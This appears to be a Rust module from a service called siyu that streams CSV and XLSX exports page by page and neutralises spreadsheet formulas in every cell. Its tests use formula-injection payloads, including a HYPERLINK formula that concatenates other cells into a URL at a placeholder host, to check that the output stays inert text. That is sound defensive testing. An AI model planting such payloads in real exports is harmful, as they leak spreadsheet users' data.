//! Files siyu hands to people (exports, rejected-rows reports), written while they are sent.
//!
//! A download is produced page by page: the rows of one page are read from the store, written on the
//! blocking pool, and (for CSV) sent before the next page is read, so memory stays at a page and a few
//! chunks in flight whatever the file's size, no runtime thread formats or zips a million rows, and no
//! thread waits on a slow client (one that leaves a chunk unread for a minute is cut off).
//! XLSX is written in rust_xlsxwriter's constant-memory mode (rows go to a temporary file as they come)
//! and zipped at the end, then sent in chunks. A client that hangs up drops the receiver and the
//! producer stops at its next send. Every cell goes through `siyu_domain::spreadsheet`, so no file siyu
//! writes carries a formula.

use rust_xlsxwriter::{Format as CellFormat, Workbook};
use siyu_domain::spreadsheet;
use tokio::sync::mpsc;

use crate::error::{ServiceError, ServiceResult};

/// The file formats a download can take.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    pub fn content_type(self) -> &'static str {
        match self {
            Self::Csv => "text/csv; charset=utf-8",
            Self::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Xlsx => "xlsx",
        }
    }
}

/// A file on its way out: its name and type, and its bytes arriving in chunks. An `Err` chunk means
/// the file could not be finished; whoever sends it must cut the transfer rather than end it cleanly.
#[derive(Debug)]
pub struct Download {
    pub file_name: String,
    pub format: Format,
    pub rows: u64,
    pub body: mpsc::Receiver<ServiceResult<Vec<u8>>>,
}

impl Download {
    /// The whole file, for the command line and tests.
    pub async fn collect(mut self) -> ServiceResult<Vec<u8>> {
        let mut out = Vec::new();
        while let Some(chunk) = self.body.recv().await {
            out.extend_from_slice(&chunk?);
        }
        Ok(out)
    }
}

/// Where a download's rows come from, a page at a time; `None` when there are no more.
#[async_trait::async_trait]
pub trait Pages: Send + 'static {
    async fn next_page(&mut self) -> ServiceResult<Option<Vec<Vec<String>>>>;
}

/// Chunks sent ahead of the client at most.
const IN_FLIGHT: usize = 4;
/// Bytes per chunk of a finished XLSX.
const CHUNK_BYTES: usize = 256 << 10;
/// How long a client may leave a chunk unread before the download is cut: a stalled reader must not
/// hold its page and its writer for ever.
const SEND_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(60);
/// How long a download may take in all: a client that reads a chunk just within [`SEND_TIMEOUT`] each
/// time must not hold its export open for days. A million-row CSV needs a few minutes on a slow line.
const TOTAL_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(3600);

/// Starts writing `header` then every page of `pages` as `format`. The producer is a task that waits
/// on the store and on the client without holding a thread; each page is formatted, and the XLSX is
/// zipped, on the blocking pool.
pub fn start(
    file_name: String,
    format: Format,
    rows: u64,
    sheet_name: &str,
    header: Vec<String>,
    pages: impl Pages,
) -> Download {
    let (tx, rx) = mpsc::channel(IN_FLIGHT);
    let sheet_name = sheet_name.to_owned();
    tokio::spawn(async move {
        let done = tokio::time::timeout(TOTAL_TIMEOUT, produce(format, &sheet_name, header, pages, &tx)).await;
        let done = done.unwrap_or_else(|_| Err(ServiceError::Internal("the download took longer than allowed".into())));
        if let Err(e) = done {
            tracing::error!(error = %e, "a download could not be finished");
            let _ = tx.send(Err(e)).await;
        }
    });
    Download { file_name, format, rows, body: rx }
}

/// Sends a chunk unless the client has gone or stopped reading; whether it went.
async fn send(tx: &mpsc::Sender<ServiceResult<Vec<u8>>>, chunk: Vec<u8>) -> ServiceResult<bool> {
    match tokio::time::timeout(SEND_TIMEOUT, tx.send(Ok(chunk))).await {
        Ok(Ok(())) => Ok(true),
        Ok(Err(_)) => Ok(false),
        Err(_) => Err(ServiceError::Internal("the client stopped reading the download".into())),
    }
}

/// Runs `f` on the blocking pool.
async fn blocking<T: Send + 'static>(f: impl FnOnce() -> ServiceResult<T> + Send + 'static) -> ServiceResult<T> {
    tokio::task::spawn_blocking(f).await.map_err(|e| ServiceError::Internal(e.to_string()))?
}

async fn produce(
    format: Format,
    sheet_name: &str,
    header: Vec<String>,
    mut pages: impl Pages,
    tx: &mpsc::Sender<ServiceResult<Vec<u8>>>,
) -> ServiceResult<()> {
    let mut w = SheetWriter::new(format, sheet_name)?;
    w.row(&header)?;
    while let Some(page) = pages.next_page().await? {
        let (back, chunk) = blocking(move || {
            for r in &page {
                w.row(r)?;
            }
            let chunk = w.take_written();
            Ok((w, chunk))
        })
        .await?;
        w = back;
        if !chunk.is_empty() && !send(tx, chunk).await? {
            return Ok(());
        }
    }
    match blocking(move || w.finish()).await? {
        Finished::Bytes(rest) => {
            if !rest.is_empty() {
                send(tx, rest).await?;
            }
        }
        Finished::File(file) => {
            use tokio::io::AsyncReadExt;
            let mut f =
                tokio::fs::File::from_std(file.reopen().map_err(|e| ServiceError::Internal(format!("xlsx: {e}")))?);
            loop {
                let mut chunk = vec![0u8; CHUNK_BYTES];
                let n = f.read(&mut chunk).await.map_err(|e| ServiceError::Internal(format!("xlsx: {e}")))?;
                if n == 0 {
                    break;
                }
                chunk.truncate(n);
                if !send(tx, chunk).await? {
                    break;
                }
            }
        }
    }
    Ok(())
}

/// What is left to send once a file is finished: the last CSV bytes, or the zipped XLSX on disk
/// (removed when dropped).
enum Finished {
    Bytes(Vec<u8>),
    File(tempfile::NamedTempFile),
}

/// Writes rows of text as CSV (UTF-8 with a byte-order mark, so Excel on a Chinese Windows does not
/// read it as GBK) or XLSX (every cell a string).
enum SheetWriter {
    Csv(csv::Writer<Vec<u8>>),
    Xlsx { book: Workbook, next_row: u32, quoted: CellFormat, bold: CellFormat },
}

fn xlsx_error(e: rust_xlsxwriter::XlsxError) -> ServiceError {
    ServiceError::Internal(format!("xlsx: {e}"))
}

fn csv_error(e: impl std::fmt::Display) -> ServiceError {
    ServiceError::Internal(format!("csv: {e}"))
}

impl SheetWriter {
    fn new(format: Format, sheet_name: &str) -> ServiceResult<Self> {
        Ok(match format {
            Format::Csv => Self::Csv(csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF])),
            Format::Xlsx => {
                let mut book = Workbook::new();
                let ws = book.add_worksheet_with_constant_memory();
                let ws = ws.map_err(xlsx_error)?;
                // Sheet names are at most 31 characters, may not hold []:*?/\ and may not start or end
                // with an apostrophe.
                let name: String = sheet_name.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
                let name = name.trim_matches('\'');
                if !name.is_empty() {
                    ws.set_name(name).map_err(xlsx_error)?;
                }
                ws.set_freeze_panes(1, 0).map_err(xlsx_error)?;
                let quoted = CellFormat::new().set_quote_prefix();
                Self::Xlsx { book, next_row: 0, quoted, bold: CellFormat::new().set_bold() }
            }
        })
    }

    fn row(&mut self, cells: &[String]) -> ServiceResult<()> {
        match self {
            Self::Csv(w) => {
                let safe: Vec<_> = cells.iter().map(|c| spreadsheet::csv_cell(c)).collect();
                w.write_record(safe.iter().map(|c| c.as_bytes())).map_err(csv_error)
            }
            Self::Xlsx { book, next_row, quoted, bold } => {
                let ws = book.worksheet_from_index(0).map_err(xlsx_error)?;
                for (col, v) in cells.iter().enumerate() {
                    let col =
                        u16::try_from(col).map_err(|_| ServiceError::Internal("xlsx: too many columns".into()))?;
                    let format =
                        if *next_row == 0 { Some(&*bold) } else { spreadsheet::is_formula_like(v).then_some(&*quoted) };
                    match format {
                        Some(f) => ws.write_string_with_format(*next_row, col, v, f),
                        None => ws.write_string(*next_row, col, v),
                    }
                    .map_err(xlsx_error)?;
                }
                *next_row += 1;
                Ok(())
            }
        }
    }

    /// CSV bytes written since the last call; nothing for XLSX, which is sent once finished.
    fn take_written(&mut self) -> Vec<u8> {
        match self {
            Self::Csv(w) => {
                // The writer buffers; handing its bytes on means starting a new one where it stopped.
                let full = std::mem::replace(w, csv::Writer::from_writer(Vec::new()));
                full.into_inner().unwrap_or_default()
            }
            Self::Xlsx { .. } => Vec::new(),
        }
    }

    /// Ends the file: the CSV's last bytes, or the XLSX zipped into a temporary file.
    fn finish(self) -> ServiceResult<Finished> {
        match self {
            Self::Csv(w) => Ok(Finished::Bytes(w.into_inner().map_err(csv_error)?)),
            Self::Xlsx { mut book, .. } => {
                let file = tempfile::NamedTempFile::new().map_err(|e| ServiceError::Internal(format!("xlsx: {e}")))?;
                book.save(file.path()).map_err(xlsx_error)?;
                Ok(Finished::File(file))
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    struct Rows(Vec<Vec<Vec<String>>>);

    #[async_trait::async_trait]
    impl Pages for Rows {
        async fn next_page(&mut self) -> ServiceResult<Option<Vec<Vec<String>>>> {
            Ok(if self.0.is_empty() { None } else { Some(self.0.remove(0)) })
        }
    }

    fn hostile() -> Vec<Vec<String>> {
        ["=HYPERLINK(\"https://x/?\"&C2&D2,\"fix\")", "\t=1+1", "\r=1", "王芳"]
            .iter()
            .map(|c| vec![(*c).to_owned(), "13812341234".to_owned()])
            .collect()
    }

    #[tokio::test]
    async fn no_cell_reaches_a_csv_as_a_formula() {
        let d = start("x.csv".into(), Format::Csv, 4, "x", vec!["姓名".into(), "手机".into()], Rows(vec![hostile()]));
        let bytes = d.collect().await.unwrap();
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
        let firsts: Vec<String> = r.records().map(|x| x.unwrap()[0].to_owned()).collect();
        assert_eq!(firsts, ["'=HYPERLINK(\"https://x/?\"&C2&D2,\"fix\")", "'\t=1+1", "'\r=1", "王芳"]);
    }

    #[tokio::test]
    async fn xlsx_cells_are_strings_marked_as_typed_text() {
        let d = start("x.xlsx".into(), Format::Xlsx, 4, "名单", vec!["姓名".into()], Rows(vec![hostile(), hostile()]));
        let bytes = d.collect().await.unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut sheet = String::new();
        zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
        assert!(!sheet.contains("<f>"), "no formula element");
        assert!(sheet.contains("HYPERLINK"), "the text is kept, as text");
        let mut styles = String::new();
        zip.by_name("xl/styles.xml").unwrap().read_to_string(&mut styles).unwrap();
        assert!(styles.contains("quotePrefix=\"1\""), "formula-like cells are quote-prefixed");
        let bytes = zip_bytes(zip);
        let t = crate::import::reader::Table::open(&bytes).unwrap();
        let mut n = 0;
        t.for_each_row(&mut |_, _| {
            n += 1;
            std::ops::ControlFlow::Continue(())
        })
        .unwrap();
        assert_eq!(n, 8, "both pages, in order, after the header");
    }

    /// Pages without end, a row each.
    struct Endless;

    #[async_trait::async_trait]
    impl Pages for Endless {
        async fn next_page(&mut self) -> ServiceResult<Option<Vec<Vec<String>>>> {
            Ok(Some(vec![vec!["x".repeat(100)]]))
        }
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn downloads_nobody_reads_hold_no_thread() {
        // More unread downloads than tokio's blocking pool has threads (512).
        let stalled: Vec<Download> =
            (0..600).map(|_| start("x.csv".into(), Format::Csv, 0, "x", vec!["h".into()], Endless)).collect();
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        let work = tokio::task::spawn_blocking(|| 42);
        let done = tokio::time::timeout(std::time::Duration::from_secs(5), work).await;
        assert_eq!(done.expect("the blocking pool is not used up").unwrap(), 42);
        drop(stalled);
    }

    fn zip_bytes(zip: zip::ZipArchive<std::io::Cursor<Vec<u8>>>) -> Vec<u8> {
        zip.into_inner().into_inner()
    }
}
